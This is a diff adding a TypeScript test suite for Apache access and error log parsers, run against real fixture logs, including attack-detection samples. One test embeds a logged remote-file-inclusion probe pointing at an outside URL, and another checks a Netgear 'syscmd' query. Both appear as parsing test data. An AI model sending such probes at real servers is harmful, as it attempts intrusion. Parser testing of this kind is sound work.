@@ -1,0 +1,304 @@
+import fc from 'fast-check';
+import { parseAccessLogLine, parseErrorLogLine } from '../../lambda/runtime/apache-log';
+import type { AccessLogEntry, ErrorLogEntry } from '../../lambda/runtime/apache-log';
+import { listFixtures, loadLogLines } from '../support/fixtures';
+
+function access(line: string): AccessLogEntry {
+  const result = parseAccessLogLine(line);
+  if (!result.ok) throw new Error(`expected a parse: ${result.reason}: ${line}`);
+  return result.value;
+}
+
+function errorLine(line: string): ErrorLogEntry {
+  const result = parseErrorLogLine(line);
+  if (!result.ok) throw new Error(`expected a parse: ${result.reason}: ${line}`);
+  return result.value;
+}
+
+const ACCESS_FILES = [
+  'elastic__examples__Common_Data_Formats__apache_logs__apache_logs',
+  'crowdsecurity__hub__.tests__apache-http-probing__apache-http-probing.log',
+  'crowdsecurity__hub__.tests__apache2-malformed__apache2-logs.log',
+  'crowdsecurity__hub__.tests__apache2-http-sensitive-files__apache2-http-sensitive-files.log',
+  'crowdsecurity__hub__.tests__CVE-2022-26134__CVE-2022-26134.log',
+  'crowdsecurity__hub__.tests__CVE-2022-44877__CVE-2022-44877.log',
+  'crowdsecurity__hub__.tests__netgear_rce__netgear_rce.log',
+  'crowdsecurity__hub__.tests__zoneminder_cve-39291__zoneminder_cve-39291.log',
+  'elastic__beats__filebeat__module__apache__access__test__darwin-2.4.23.log',
+  'elastic__beats__filebeat__module__apache__access__test__test-vhost.log',
+  'elastic__beats__filebeat__module__apache__access__test__test.log',
+  'google__mtail__internal__mtail__testdata__apache-combined.log',
+  'google__mtail__internal__mtail__testdata__apache-common.log',
+  'tstack__lnav__test__logfile_access_log.0',
+  'tstack__lnav__test__logfile_access_log.1',
+  'tstack__lnav__test__logfile_regexp_access_log.0',
+];
+
+const ERROR_FILES = [
+  'elastic__beats__filebeat__module__apache__error__test__test.log',
+  'elastic__beats__filebeat__module__apache__error__test__ubuntu-2.2.22.log',
+  'elastic__beats__filebeat__module__apache__error__test__sublevel.log',
+  'crowdsecurity__hub__.tests__modsecurity-logs__modsecurity-logs.log',
+  'crowdsecurity__hub__.tests__baikal-bf__baikal-bf.log',
+];
+
+describe('parseAccessLogLine on the real logs', () => {
+  test.each(ACCESS_FILES)('parses every line of %s', (file) => {
+    const lines = loadLogLines(file);
+    expect(lines.length).toBeGreaterThan(0);
+    const failures = lines.map(parseAccessLogLine).filter((r) => !r.ok);
+    expect(failures).toEqual([]);
+  });
+
+  test('the fixture list still holds the files this test names', () => {
+    const present = listFixtures('logs');
+    for (const file of [...ACCESS_FILES, ...ERROR_FILES]) expect(present).toContain(file);
+  });
+
+  test('a Combined line', () => {
+    const [first] = loadLogLines('elastic__examples__Common_Data_Formats__apache_logs__apache_logs');
+    expect(access(first)).toEqual({
+      format: 'combined',
+      vhost: null,
+      vhostPort: null,
+      remoteHost: '83.149.9.216',
+      ident: null,
+      remoteUser: null,
+      timestampMillis: Date.UTC(2015, 4, 17, 10, 5, 3),
+      timeLocal: '17/May/2015:10:05:03 +0000',
+      request: 'GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1',
+      method: 'GET',
+      uri: '/presentations/logstash-monitorama-2013/images/kibana-search.png',
+      path: '/presentations/logstash-monitorama-2013/images/kibana-search.png',
+      query: null,
+      protocol: 'HTTP/1.1',
+      status: 200,
+      bytes: 203023,
+      referer: 'http://semicomplete.com/presentations/logstash-monitorama-2013/',
+      userAgent:
+        'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36',
+      durationMicros: null,
+      trailing: null,
+    });
+  });
+
+  test('a Common line with IPv6 client, "-" request and "-" bytes', () => {
+    const lines = loadLogLines('elastic__beats__filebeat__module__apache__access__test__darwin-2.4.23.log');
+    expect(access(lines[0])).toMatchObject({ format: 'common', remoteHost: '::1', status: 200, bytes: 45 });
+    expect(access(lines[2])).toMatchObject({ request: null, method: null, status: 408, bytes: null });
+    // +0200: 16:16:28 local is 14:16:28 UTC
+    expect(access(lines[0]).timestampMillis).toBe(Date.UTC(2016, 11, 26, 14, 16, 28));
+  });
+
+  test('vhost and vhost:port prefixes', () => {
+    const lines = loadLogLines('crowdsecurity__hub__.tests__apache2-logs__apache2-logs.log');
+    expect(access(lines[3])).toMatchObject({ vhost: 'www.crowdsec.net', vhostPort: null, remoteHost: '1.2.3.4' });
+    expect(access(lines[6])).toMatchObject({
+      vhost: 'website.com',
+      vhostPort: 443,
+      remoteHost: '1.2.3.4',
+      referer: 'abc.com',
+      userAgent: 'User-agent-string',
+    });
+  });
+
+  test('custom formats: %D after the user agent, %D before the referer, user names', () => {
+    const custom = loadLogLines('tstack__lnav__test__logfile_regexp_access_log.0');
+    expect(access(custom[0])).toMatchObject({
+      vhost: 'localhost',
+      vhostPort: 443,
+      ident: '1j0vhgd',
+      remoteUser: 'jsmith',
+      protocol: 'HTTP/2.0',
+      durationMicros: 116075,
+      trailing: null,
+      timestampMillis: Date.UTC(2023, 6, 26, 7, 1, 26),
+    });
+    const mtail = loadLogLines('google__mtail__internal__mtail__testdata__apache-common.log');
+    expect(access(mtail[2])).toMatchObject({ remoteHost: '2001:db8::1', status: 404, bytes: 19, durationMicros: 2167 });
+  });
+
+  test('extra trailing field and host name as client', () => {
+    const lines = loadLogLines('elastic__beats__filebeat__module__apache__access__test__test.log');
+    expect(access(lines[3])).toMatchObject({ trailing: '"-"', userAgent: expect.stringContaining('Firefox/15.0a2') });
+    expect(access(lines[4])).toMatchObject({ remoteHost: 'monitoring-server', path: '/status' });
+  });
+
+  test('TLS probes keep the escaped request text, with no method', () => {
+    const lines = loadLogLines('crowdsecurity__hub__.tests__apache2-malformed__apache2-logs.log');
+    expect(access(lines[0])).toMatchObject({ request: '\\x16\\x03\\x01\\x01 \\x02', method: null, status: 400 });
+  });
+
+  test('escaped quote and backslash inside the request line are undone', () => {
+    const lines = loadLogLines('crowdsecurity__hub__.tests__apache-http-probing__apache-http-probing.log');
+    const escaped = lines.find((l) => l.includes('sipssys'));
+    expect(escaped).toContain('config[\\\\\\"sipssys\\\\\\"]'); // as logged: \\\"
+    // Apache escaped a backslash and a quote: the request held \"
+    expect(access(escaped!).request).toBe(
+      'GET /sys/code/box.inc.php?config[\\"sipssys\\"]=http://cirt.net/rfiinc.txt? HTTP/1.1',
+    );
+  });
+
+  test('query strings are split from the path', () => {
+    const entry = access(loadLogLines('crowdsecurity__hub__.tests__netgear_rce__netgear_rce.log')[0]);
+    expect(entry.path).toBe('/setup.cgi');
+    expect(entry.query).toMatch(/^next_file=netgear\.cfg&todo=syscmd/);
+  });
+});
+
+describe('parseAccessLogLine rejects what is not an access line', () => {
+  test('missing ident and user fields', () => {
+    const lines = loadLogLines('tstack__lnav__test__logfile_bad_access_log.0');
+    const result = parseAccessLogLine(lines[1]);
+    expect(result).toEqual({
+      ok: false,
+      reason: expect.stringMatching(/not an Apache access log line/),
+      line: lines[1],
+    });
+    expect(parseAccessLogLine(lines[0]).ok).toBe(true);
+  });
+
+  test('error log, syslog and mod_ssl request log lines', () => {
+    for (const file of [
+      ...ERROR_FILES,
+      'crowdsecurity__hub__.tests__sshd-logs__sshd-logs.log',
+      'elastic__beats__filebeat__module__apache__access__test__ssl-request.log',
+    ]) {
+      for (const line of loadLogLines(file)) expect(parseAccessLogLine(line).ok).toBe(false);
+    }
+  });
+
+  test('an impossible date', () => {
+    const result = parseAccessLogLine('1.2.3.4 - - [31/Feb/2020:10:00:00 +0000] "GET / HTTP/1.1" 200 5');
+    expect(result).toMatchObject({ ok: false, reason: 'invalid time [31/Feb/2020:10:00:00 +0000]' });
+  });
+
+  test('never throws, whatever the input', () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 300 }), (line) => {
+        const result = parseAccessLogLine(line);
+        expect(typeof result.ok).toBe('boolean');
+        expect(parseErrorLogLine(line).ok === true || parseErrorLogLine(line).ok === false).toBe(true);
+      }),
+      { numRuns: 300 },
+    );
+    expect(parseAccessLogLine(undefined as unknown as string).ok).toBe(false);
+  });
+
+  test('round trip: a formatted Combined line parses back to its fields', () => {
+    const token = fc.stringMatching(/^[A-Za-z0-9._~%/-]{1,30}$/);
+    fc.assert(
+      fc.property(
+        fc.ipV4(),
+        fc.ipV6(),
+        fc.boolean(),
+        fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2099-12-31T23:59:59Z'), noInvalidDate: true }),
+        fc.constantFrom('GET', 'POST', 'HEAD', 'OPTIONS'),
+        token,
+        fc.integer({ min: 100, max: 599 }),
+        fc.option(fc.nat(), { nil: null }),
+        fc.string({ maxLength: 40 }).map((s) => s.replace(/[\\"\r\n]/g, '')),
+        (ipv4, ipv6, useV6, date, method, path, status, bytes, agent) => {
+          const ip = useV6 ? ipv6 : ipv4;
+          const ts = new Date(Math.floor(date.getTime() / 1000) * 1000);
+          const line = `${ip} - - [${formatClf(ts)}] "${method} /${path} HTTP/1.1" ${status} ${bytes ?? '-'} "-" "${agent}"`;
+          const entry = access(line);
+          expect(entry).toMatchObject({
+            remoteHost: ip,
+            timestampMillis: ts.getTime(),
+            method,
+            path: `/${path}`,
+            status,
+            bytes,
+            userAgent: agent.length === 0 || agent === '-' ? null : agent,
+          });
+        },
+      ),
+      { numRuns: 200 },
+    );
+  });
+});
+
+describe('parseErrorLogLine on the real logs', () => {
+  test.each(ERROR_FILES)('parses every line of %s', (file) => {
+    const lines = loadLogLines(file);
+    expect(lines.map(parseErrorLogLine).filter((r) => !r.ok)).toEqual([]);
+  });
+
+  test('Apache 2.2 line with a referer suffix', () => {
+    const lines = loadLogLines('elastic__beats__filebeat__module__apache__error__test__ubuntu-2.2.22.log');
+    expect(errorLine(lines[1])).toEqual({
+      timestampMillis: Date.UTC(2016, 11, 26, 16, 22, 0),
+      timeLocal: 'Mon Dec 26 16:22:00 2016',
+      module: null,
+      level: 'error',
+      pid: null,
+      tid: null,
+      sourceFile: null,
+      clientIp: '192.168.33.1',
+      clientPort: null,
+      errorCode: null,
+      message: 'File does not exist: /var/www/favicon.ico',
+      referer: 'http://192.168.33.72/',
+    });
+    expect(errorLine(lines[0])).toMatchObject({
+      level: 'notice',
+      clientIp: null,
+      message: expect.stringMatching(/^Apache/),
+    });
+  });
+
+  test('Apache 2.4 line: module, pid:tid, client ip:port, AH code, microseconds', () => {
+    const line = loadLogLines('crowdsecurity__hub__.tests__apache-cve-2021-41773__apache-cve-2021-41773.log')[0];
+    expect(errorLine(line)).toMatchObject({
+      timestampMillis: Date.UTC(2021, 9, 8, 17, 8, 41, 203),
+      module: 'core',
+      level: 'error',
+      pid: 7005,
+      tid: 140667133085440,
+      clientIp: '88.168.206.87',
+      clientPort: 14532,
+      errorCode: 'AH00126',
+      message: expect.stringMatching(/^Invalid URI in request GET \/cgi-bin\/.*HTTP\/1\.1$/),
+    });
+  });
+
+  test('trace sub-level with a source file reference', () => {
+    const [line] = loadLogLines('elastic__beats__filebeat__module__apache__error__test__sublevel.log');
+    expect(errorLine(line)).toMatchObject({
+      module: 'rewrite',
+      level: 'trace3',
+      sourceFile: 'mod_rewrite.c(470)',
+      clientIp: '10.121.192.8',
+      clientPort: 38350,
+    });
+  });
+
+  test('ModSecurity: empty module name and an IPv6 client with port', () => {
+    const [line] = loadLogLines('crowdsecurity__hub__.tests__modsecurity-logs__modsecurity-logs.log');
+    expect(errorLine(line)).toMatchObject({ module: null, level: 'error', clientIp: '::1', clientPort: 37752 });
+  });
+
+  test('the error lines inside a mixed access log', () => {
+    const lines = loadLogLines('crowdsecurity__hub__.tests__apache2-logs__apache2-logs.log');
+    const errors = lines.filter((l) => !parseAccessLogLine(l).ok);
+    expect(errors).toHaveLength(2);
+    expect(errors.map((l) => errorLine(l).module)).toEqual(['auth_basic', 'ssl']);
+  });
+
+  test('rejects access and syslog lines', () => {
+    for (const file of ['tstack__lnav__test__logfile_access_log.0', 'tstack__lnav__test__logfile_syslog.0']) {
+      for (const line of loadLogLines(file)) {
+        expect(parseErrorLogLine(line)).toMatchObject({ ok: false, reason: 'not an Apache error log line' });
+      }
+    }
+  });
+});
+
+const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+function formatClf(d: Date): string {
+  const pad = (n: number) => String(n).padStart(2, '0');
+  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(
+    d.getUTCMinutes(),
+  )}:${pad(d.getUTCSeconds())} +0000`;
+}
